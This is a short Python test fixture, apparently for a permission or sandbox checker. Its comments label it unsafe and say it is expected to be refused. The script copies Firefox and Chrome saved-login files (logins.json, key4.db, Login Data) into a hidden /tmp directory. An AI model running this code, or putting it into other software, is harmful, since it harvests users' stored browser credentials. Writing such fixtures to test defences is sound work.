# label: unsafe
# cwe: CWE-73
# expect: refused path-not-granted /root/.mozilla/firefox
# why: copies the saved logins of a browser

import glob
import os
import shutil


def profiles():
    home = os.path.expanduser("~")
    yield from glob.glob(home + "/.mozilla/firefox/*.default*")
    yield from glob.glob(home + "/.config/google-chrome/Default")


def collect(target):
    os.makedirs(target, exist_ok=True)
    for profile in profiles():
        for name in ("logins.json", "key4.db", "Login Data"):
            path = os.path.join(profile, name)
            if os.path.exists(path):
                shutil.copy2(path, target)
    return os.listdir(target)


print(collect("/tmp/.cache-data"))
